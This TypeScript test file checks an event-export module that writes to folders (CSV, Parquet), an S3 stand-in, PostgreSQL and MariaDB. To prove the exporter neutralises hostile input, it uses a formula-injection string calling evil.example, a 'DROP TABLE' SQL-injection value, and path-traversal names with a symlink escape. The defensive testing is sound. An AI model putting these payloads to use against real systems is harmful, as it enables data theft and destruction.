import { parquetReadObjects } from 'hyparquet'
import { compressors } from 'hyparquet-compressors'
import { mkdir, mkdtemp, readdir, readFile, rm, symlink } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import mysql from 'mysql2/promise'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { aMariaDb, mariadbd, postgresOnPort } from '../../../../test/make/databases.ts'
import { aPostgres } from '../../../../test/make/engines.ts'
import { aReceiver, type Receiver } from '../../../../test/make/receiver.ts'
import { aStore } from '../../../../test/make/s3.ts'
import { stoppedClock } from '../../../../platform/clock/clock.ts'
import { createEgress } from '../../../../platform/egress/open-egress.ts'
import { createFolder } from '../../../../platform/files/folder.ts'
import { systemRandom } from '../../../../platform/random/random.ts'
import type { Json } from '../../../collect/contract.ts'
import type { Frequency, Settings } from '../../contract.ts'
import { kindNamed } from './index.ts'
import type { Deliverer, Leaving } from './kind.ts'

const clock = stoppedClock('2026-11-25T10:20:30.000Z')
const allowed: string[] = []
let directory = ''
beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'interlock-export-'))
})
afterAll(() => rm(directory, { recursive: true, force: true }))

function opened(
  kind: string,
  settings: Settings,
  secrets: Record<string, string> = {},
  frequency: Frequency = 'hourly',
): Deliverer {
  const found = kindNamed(kind)
  if (found === undefined) throw new Error(`no kind ${kind}`)
  const egress = createEgress({ allow: allowed })
  const deliverer = found.open({
    destinationId: 'destination_1',
    settings,
    frequency,
    secret: (name) => (secrets[name] === undefined ? [] : [secrets[name]]),
    egress,
    folder: (path) => createFolder(join(directory, path)),
    clock,
    random: systemRandom,
  })
  afterAll(async () => {
    await deliverer.close()
    await egress.close()
  })
  return deliverer
}

const leaving = (position: number, fields: Record<string, Json>): Leaving => ({
  key: `evt_${String(position).padStart(40, '0')}`,
  type: 'track',
  name: 'Order Completed',
  time: '2026-11-25T09:14:15.678Z',
  receivedMs: Date.parse('2026-11-25T09:14:16.000Z'),
  fields: new Map(Object.entries(fields)),
  journalId: 'abcdef0123456789',
  position,
})

const fields = ['userId', 'properties.total', 'properties.note', 'properties.skus']
const nasty = '=HYPERLINK("http://evil.example/"&A1;"Åsa, “click”")\r\nzweite Zeile'
const some = [
  leaving(41, { userId: 'u-1', 'properties.total': -5, 'properties.note': nasty, 'properties.skus': ['ä', 'b'] }),
  leaving(42, { userId: '-2+3', 'properties.note': '@SUM(A1)' }),
]
const place = 'date=2026-11-25/hour=09/abcdef01-000000000041'

describe('files in a folder', () => {
  it('are CSV that no spreadsheet takes for formulas, under the same name when they are written again', async () => {
    const deliverer = opened('folder', { folder: 'lager', format: 'csv' })
    expect(await deliverer.deliver(some.slice(0, 1), fields)).toEqual({ kind: 'taken' })
    expect(await deliverer.deliver(some, fields)).toEqual({ kind: 'taken' })
    const text = await readFile(join(directory, 'lager', `${place}.csv`), 'utf8')
    const rows = parse<Record<string, string>>(text, { columns: true })
    expect(rows).toEqual([
      {
        event_key: some[0]!.key,
        type: 'track',
        event: 'Order Completed',
        time: '2026-11-25T09:14:15.678Z',
        userId: 'u-1',
        'properties.total': '-5',
        'properties.note': `'${nasty}`,
        'properties.skus': '["ä","b"]',
      },
      expect.objectContaining({ userId: "'-2+3", 'properties.total': '', 'properties.note': "'@SUM(A1)" }),
    ])
    // Nothing half-written lies about.
    expect(await readdir(join(directory, 'lager', 'date=2026-11-25', 'hour=09'))).toEqual(['abcdef01-000000000041.csv'])
  })

  it('are Parquet with one schema, whatever is missing', async () => {
    const deliverer = opened('folder', { folder: 'parquet', format: 'parquet' }, {}, 'daily')
    await deliverer.deliver(some, fields)
    const bytes = await readFile(join(directory, 'parquet', 'date=2026-11-25/abcdef01-000000000041.parquet'))
    const file = new Uint8Array(bytes).buffer
    const rows = await parquetReadObjects({ file, compressors })
    expect(rows).toEqual([
      {
        event_key: some[0]!.key,
        type: 'track',
        event: 'Order Completed',
        time: new Date('2026-11-25T09:14:15.678Z'),
        userId: 'u-1',
        'properties.total': '-5',
        'properties.note': nasty,
        'properties.skus': '["ä","b"]',
      },
      expect.objectContaining({ userId: '-2+3', 'properties.total': null, 'properties.skus': null }),
    ])
  })

  it('never lie outside it, whatever a name or a link says', async () => {
    const folder = createFolder(join(directory, 'inside'))
    for (const name of ['../x', '/etc/x', 'a/../../x', 'a//b', '.hidden', 'a/./b'])
      await expect(folder.put(name, new Uint8Array(1))).rejects.toThrow('not a name')
    await mkdir(join(directory, 'inside'), { recursive: true })
    await symlink(tmpdir(), join(directory, 'inside', 'out'))
    await expect(folder.put('out/x', new Uint8Array(1))).rejects.toThrow('leads out')
  })
})

describe('files in an S3-compatible store (a stand-in that checks the signature)', () => {
  const keys = { accessKeyId: 'AKIA-Łódź', secretAccessKey: 'ge“heim”/+', region: 'eu-central-1' }
  let receiver: Receiver
  const store = aStore({ ...keys, accessKeyId: 'AKIATEST' })
  const settings = (): Settings => ({
    endpoint: receiver.url.replace('/hooks', ''),
    region: keys.region,
    bucket: 'lager',
    prefix: 'von/interlock=1/',
    format: 'csv',
    accessKeyId: 'AKIATEST',
  })
  beforeAll(async () => {
    receiver = await aReceiver((arrived) => store.answer(arrived))
    allowed.push(receiver.place)
  })

  it('are signed, and a delivery that comes again replaces its object', async () => {
    const deliverer = opened('s3', settings(), { secretAccessKey: keys.secretAccessKey })
    expect(await deliverer.deliver(some, fields)).toEqual({ kind: 'taken' })
    expect(await deliverer.deliver(some, fields)).toEqual({ kind: 'taken' })
    expect([...store.objects.keys()].map(decodeURIComponent)).toEqual([`/lager/von/interlock=1/${place}.csv`])
    const [object] = store.objects.values()
    expect(object?.puts).toBe(2)
    expect(object?.body.toString('utf8').split('\r\n')[0]).toBe(
      'event_key,type,event,time,userId,properties.total,properties.note,properties.skus',
    )
  })

  it('wait while the key is wrong, and say what the store said', async () => {
    const deliverer = opened('s3', settings(), { secretAccessKey: 'wrong' })
    expect(await deliverer.deliver(some, fields)).toEqual({
      kind: 'later',
      because: 'The store answered 403 SignatureDoesNotMatch.',
      retryAfterMs: undefined,
    })
  })
})

describe('a table in PostgreSQL', () => {
  it('is made, has one row for an event that comes again, and takes any text', async () => {
    const postgres = await aPostgres()
    const { port, database, user } = await postgresOnPort(postgres.address)
    allowed.push(`127.0.0.1:${String(port)}`)
    const settings = { host: '127.0.0.1', port, database, user, table: 'public.Ziel_Events', tls: false }
    const deliverer = opened('postgresql', settings, { password: 'x' }, 'at_once')
    expect(await deliverer.deliver(some, fields)).toEqual({ kind: 'taken' })
    expect(await deliverer.deliver([some[1]!, leaving(43, { userId: "'; DROP TABLE x; --" })], fields)).toEqual({
      kind: 'taken',
    })
    const rows = await postgres.query('SELECT * FROM public."Ziel_Events" ORDER BY event_key')
    expect(rows).toHaveLength(3)
    expect(rows[0]).toEqual({
      event_key: some[0]!.key,
      type: 'track',
      event: 'Order Completed',
      time: new Date('2026-11-25T09:14:15.678Z'),
      received_at: new Date('2026-11-25T09:14:16.000Z'),
      userid: 'u-1',
      properties_total: '-5',
      properties_note: nasty,
      properties_skus: '["ä","b"]',
    })
    // A NUL can be kept by no column of text: that event is to blame, and no other.
    expect(await deliverer.deliver([leaving(44, { userId: 'a\0b' })], fields)).toEqual({
      kind: 'refused',
      because: 'The database refused it (22021).',
    })
    // A field that the contract gained has its column; a table in which an event could be twice is not written to.
    const more = leaving(45, { userId: 'a', 'properties.more': 'neu' })
    expect(await deliverer.deliver([more], [...fields, 'properties.more'])).toEqual({ kind: 'taken' })
    expect(
      await postgres.query('SELECT properties_more FROM public."Ziel_Events" WHERE event_key = $1', [more.key]),
    ).toEqual([{ properties_more: 'neu' }])
    await postgres.query(
      'CREATE TABLE public.twice (event_key text, type text, event text, time timestamptz, received_at timestamptz)',
    )
    const twice = opened('postgresql', { ...settings, table: 'twice' }, { password: 'x' }, 'at_once')
    expect(await twice.deliver([more], [])).toMatchObject({
      kind: 'later',
      because: expect.stringContaining('no unique key'),
    })
  })
})

describe.skipIf(mariadbd === undefined)('a table in MariaDB', () => {
  it('is made, has one row for an event that comes again, and takes any text', async () => {
    const { port, user, password, database } = await aMariaDb()
    allowed.push(`127.0.0.1:${String(port)}`)
    const settings = { host: '127.0.0.1', port, database, user, table: 'events', tls: false }
    const deliverer = opened('mysql', settings, { password }, 'at_once')
    const smile = leaving(43, { userId: 'back\\slash \' " `', 'properties.note': '😀' })
    expect(await deliverer.deliver(some, fields)).toEqual({ kind: 'taken' })
    expect(await deliverer.deliver([some[1]!, smile], fields)).toEqual({ kind: 'taken' })
    const client = await mysql.createConnection({ host: '127.0.0.1', port, user, password, database, timezone: 'Z' })
    const [rows] = await client.query('SELECT * FROM events ORDER BY event_key')
    await client.end()
    expect(rows).toEqual([
      {
        event_key: some[0]!.key,
        type: 'track',
        event: 'Order Completed',
        time: new Date('2026-11-25T09:14:15.678Z'),
        received_at: new Date('2026-11-25T09:14:16.000Z'),
        userid: 'u-1',
        properties_total: '-5',
        properties_note: nasty,
        properties_skus: '["ä","b"]',
      },
      expect.objectContaining({ userid: '-2+3', properties_total: null }),
      expect.objectContaining({ userid: 'back\\slash \' " `', properties_note: '😀' }),
    ])
    await deliverer.deliver([leaving(46, { 'properties.more': 'neu' })], [...fields, 'properties.more'])
    const other = await mysql.createConnection({ host: '127.0.0.1', port, user, password, database })
    const [added] = await other.query('SELECT properties_more FROM events WHERE properties_more IS NOT NULL')
    await other.query(
      'CREATE TABLE twice (event_key VARCHAR(64), type TEXT, event TEXT, time DATETIME, received_at DATETIME)',
    )
    await other.end()
    expect(added).toEqual([{ properties_more: 'neu' }])
    const twice = opened('mysql', { ...settings, table: 'twice' }, { password }, 'at_once')
    expect(await twice.deliver(some, [])).toMatchObject({
      kind: 'later',
      because: expect.stringContaining('no unique key'),
    })
    const wrong = opened('mysql', settings, { password: 'wrong' }, 'at_once')
    expect(await wrong.deliver(some, fields)).toEqual({
      kind: 'later',
      because: 'The database did not take it (ER_ACCESS_DENIED_ERROR).',
    })
  }, 60_000)
})
